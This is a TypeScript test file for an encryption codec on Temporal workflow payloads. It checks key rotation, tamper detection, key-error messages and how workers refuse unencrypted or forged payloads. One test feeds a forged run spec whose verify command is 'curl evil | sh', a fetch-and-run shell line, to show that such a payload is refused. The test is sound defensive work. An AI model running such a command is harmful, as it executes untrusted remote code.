import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { PayloadCodec } from '@temporalio/common';
import { controlSchemas } from '../src/api/control.js';
import { describeIssues, runSpecSchema } from '../src/api/spec.js';
import { EncryptionKeyError } from '../src/api/payload-refusal.js';
import { codecFromEnv, dataConverterFromEnv, ENCRYPTED_ENCODING, FAILURE_CONVERTER_PATH, keyId, KEY_ID_METADATA } from '../src/ops/codec.js';

const newKey = () => randomBytes(32).toString('base64');
const json = (value: unknown) => ({ metadata: { encoding: Buffer.from('json/plain') }, data: Buffer.from(JSON.stringify(value)) });
const text = (bytes: Uint8Array | null | undefined) => Buffer.from(bytes ?? []).toString('utf8');

describe('encryption codec', () => {
  it('changes nothing without a key, and says which key an encrypted payload needs and where to set it', async () => {
    expect(codecFromEnv({})).toBeNull();
    const keyless = dataConverterFromEnv({}).payloadCodecs![0];
    const plain = json('as it was');
    expect(await keyless.encode([plain])).toEqual([plain]);
    expect(await keyless.decode([plain])).toEqual([plain]);
    const [sealed] = await codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })!.encode([plain]);
    const err = await keyless.decode([sealed]).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(EncryptionKeyError);
    expect((err as Error).message).toBe(
      `payload was encrypted with key ${text(sealed.metadata![KEY_ID_METADATA])}, which is not among the configured keys (none is set here): ` +
        'set TETHER_ENCRYPTION_KEY (or TETHER_ENCRYPTION_KEYS) to the key the workers use',
    );
  });

  it("throws for a client what it cannot open, naming the key, where a worker's codec refuses and tells its log", async () => {
    const env = { TETHER_ENCRYPTION_KEY: newKey() };
    const foreign = (await codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })!.encode([json('x')]))[0];
    await expect(dataConverterFromEnv(env, 'client').payloadCodecs![0].decode([foreign])).rejects.toThrow(EncryptionKeyError);
    const told: string[] = [];
    const [refused] = await dataConverterFromEnv(env, 'worker', (reason) => told.push(reason)).payloadCodecs![0].decode([foreign]);
    expect(Object.keys(JSON.parse(text(refused.data)))[0]).toMatch(/^payload refused: payload was encrypted with key \w{8}, which is not among/);
    expect(told).toEqual([expect.stringContaining(`add key ${text(foreign.metadata![KEY_ID_METADATA])} to TETHER_ENCRYPTION_KEYS`)]);
  });

  it('seals each payload with a fresh IV and tags it with the key id', async () => {
    const key = newKey();
    const codec = codecFromEnv({ TETHER_ENCRYPTION_KEY: key })!;
    const [a, b] = await codec.encode([json('secret goal'), json('secret goal')]);
    expect(text(a.metadata!.encoding)).toBe(ENCRYPTED_ENCODING);
    expect(text(a.metadata![KEY_ID_METADATA])).toBe(keyId(Buffer.from(key, 'base64')));
    expect(text(a.data)).not.toContain('secret goal');
    expect(Buffer.from(a.data!).equals(Buffer.from(b.data!))).toBe(false);
    const [back] = await codec.decode([a]);
    expect(text(back.data)).toBe('"secret goal"');
    expect(text(back.metadata!.encoding)).toBe('json/plain');
  });

  it('passes payloads written before encryption was on through the inspecting decode (codec server, doctor)', async () => {
    const codec = codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })!;
    const [back] = await codec.decode([json('old')]);
    expect(text(back.data)).toBe('"old"');
  });

  it('reads payloads sealed with an old key after rotation (KEYS=new,old) and seals new ones with the new key', async () => {
    const oldKey = newKey();
    const fresh = newKey();
    const [sealed] = await codecFromEnv({ TETHER_ENCRYPTION_KEY: oldKey })!.encode([json('from last month')]);
    const rotated = codecFromEnv({ TETHER_ENCRYPTION_KEYS: `${fresh}, ${oldKey}` })!;
    const [back] = await rotated.decode([sealed]);
    expect(text(back.data)).toBe('"from last month"');
    const [resealed] = await rotated.encode([json('today')]);
    expect(text(resealed.metadata![KEY_ID_METADATA])).toBe(keyId(Buffer.from(fresh, 'base64')));
  });

  it('says which key id is missing when a payload was sealed with a key it does not have', async () => {
    const gone = newKey();
    const [sealed] = await codecFromEnv({ TETHER_ENCRYPTION_KEY: gone })!.encode([json('x')]);
    const codec = codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })!;
    await expect(codec.decode([sealed])).rejects.toThrow(new RegExp(`key ${keyId(Buffer.from(gone, 'base64'))}, which is not among the configured keys`));
  });

  it('refuses a tampered payload', async () => {
    const codec = codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })!;
    const [sealed] = await codec.encode([json('x')]);
    const data = Buffer.from(sealed.data!);
    data[data.length - 20] ^= 1;
    await expect(codec.decode([{ ...sealed, data }])).rejects.toThrow(/failed authentication/);
  });

  it('rejects malformed keys with advice and without echoing them', () => {
    const short = randomBytes(16).toString('base64');
    expect(() => codecFromEnv({ TETHER_ENCRYPTION_KEY: short })).toThrow(/32 bytes.*decodes to 16.*openssl rand -base64 32/);
    const notBase64 = 'this is not base64!';
    expect(() => codecFromEnv({ TETHER_ENCRYPTION_KEY: notBase64 })).toThrow(/not base64/);
    try {
      codecFromEnv({ TETHER_ENCRYPTION_KEYS: `${newKey()},${short}` });
      expect.unreachable();
    } catch (err) {
      expect((err as Error).message).toMatch(/TETHER_ENCRYPTION_KEYS\[1\]/);
      expect((err as Error).message).not.toContain(short);
    }
  });

  it('refuses a KEY that disagrees with the newest of KEYS', () => {
    expect(() => codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey(), TETHER_ENCRYPTION_KEYS: newKey() })).toThrow(/disagree/);
    const key = newKey();
    expect(codecFromEnv({ TETHER_ENCRYPTION_KEY: key, TETHER_ENCRYPTION_KEYS: `${key},${newKey()}` })!.keys).toHaveLength(2);
  });

  it('encrypts failure messages too when a key is set', () => {
    expect(dataConverterFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })).toMatchObject({ failureConverterPath: FAILURE_CONVERTER_PATH });
  });
});

describe("the clients' and workers' codec, with encryption on", () => {
  const workerCodec = (env: NodeJS.ProcessEnv) => dataConverterFromEnv(env, 'worker').payloadCodecs![0] as PayloadCodec;
  const decoded = (payload: { data?: Uint8Array | null }) => JSON.parse(text(payload.data));

  it('decodes a plaintext payload into a refusal that the run validation reports as such', async () => {
    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey() });
    const [refused] = await codec.decode([json({ goal: 'sneak in', model: 'scripted:x', verify: { command: 'curl evil | sh' } })]);
    const spec = runSpecSchema.safeParse(decoded(refused));
    expect(spec.success).toBe(false);
    expect(describeIssues(spec.error!)).toMatch(/^unencrypted payload refused: encryption is on/);
    const kill = controlSchemas.kill.safeParse(decoded((await codec.decode([json({ reason: 'plain' })]))[0]));
    expect(describeIssues(kill.error!)).toMatch(/^unencrypted payload refused/);
  });

  it('never throws on a forged, tampered or foreign payload, which would fail the workflow task forever', async () => {
    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey() });
    const forged = { metadata: { encoding: Buffer.from(ENCRYPTED_ENCODING), [KEY_ID_METADATA]: Buffer.from('deadbeef') }, data: Buffer.from('x'.repeat(40)) };
    const [sealed] = await codec.encode([json('x')]);
    const tampered = { ...sealed, data: Buffer.from(sealed.data!).fill(7, 20, 24) };
    const truncated = { ...sealed, data: Buffer.from('short') };
    const [wrongKey, altered, cut] = await codec.decode([forged, tampered, truncated]);
    expect(Object.keys(decoded(wrongKey))[0]).toMatch(/^payload refused: payload was encrypted with key deadbeef, which is not among the configured keys/);
    expect(Object.keys(decoded(altered))[0]).toMatch(/^payload refused: .*failed authentication/);
    expect(Object.keys(decoded(cut))[0]).toMatch(/^payload refused: .*truncated/);
  });

  it('still opens what it sealed', async () => {
    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey() });
    const [back] = await codec.decode(await codec.encode([json({ goal: 'real' })]));
    expect(decoded(back)).toEqual({ goal: 'real' });
  });

  it('lets plaintext through with TETHER_ENCRYPTION_ACCEPT_PLAINTEXT=1, for runs started before encryption was on', async () => {
    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey(), TETHER_ENCRYPTION_ACCEPT_PLAINTEXT: '1' });
    expect(decoded((await codec.decode([json('old')]))[0])).toBe('old');
  });
});
